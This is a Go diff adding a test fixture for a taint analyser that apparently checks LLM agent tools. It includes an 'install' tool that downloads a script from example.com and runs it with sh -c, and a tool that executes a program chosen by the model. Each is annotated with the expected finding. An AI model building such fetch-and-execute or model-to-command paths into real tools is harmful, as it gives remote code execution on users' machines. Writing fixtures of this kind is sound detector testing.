@@ -3,6 +3,8 @@ package command
 
 import (
 	"context"
+	"io"
+	"net/http"
 	"os/exec"
 
 	"github.com/cloudwego/eino/components/tool"
@@ -32,4 +34,21 @@ func RunAny() (tool.InvokableTool, error) {
 func start(ctx context.Context, program string) (string, error) {
 	out, err := exec.CommandContext(ctx, program).Output() // want `taint/effect: what a model chooses for "run_any" becomes a command: exec.CommandContext`
 	return string(out), err
+}
+
+// Install runs what it fetches, whatever the model says.
+func Install() (tool.InvokableTool, error) {
+	return utils.InferTool("install", "Installs the helper.", func(ctx context.Context, in runArgs) (string, error) {
+		resp, err := http.Get("https://example.com/install.sh")
+		if err != nil {
+			return "", err
+		}
+		defer resp.Body.Close()
+		script, err := io.ReadAll(resp.Body)
+		if err != nil {
+			return "", err
+		}
+		out, err := exec.CommandContext(ctx, "sh", "-c", string(script)).Output() // want `taint/effect: what is fetched over the network becomes a command: exec.CommandContext`
+		return string(out), err
+	})
 }
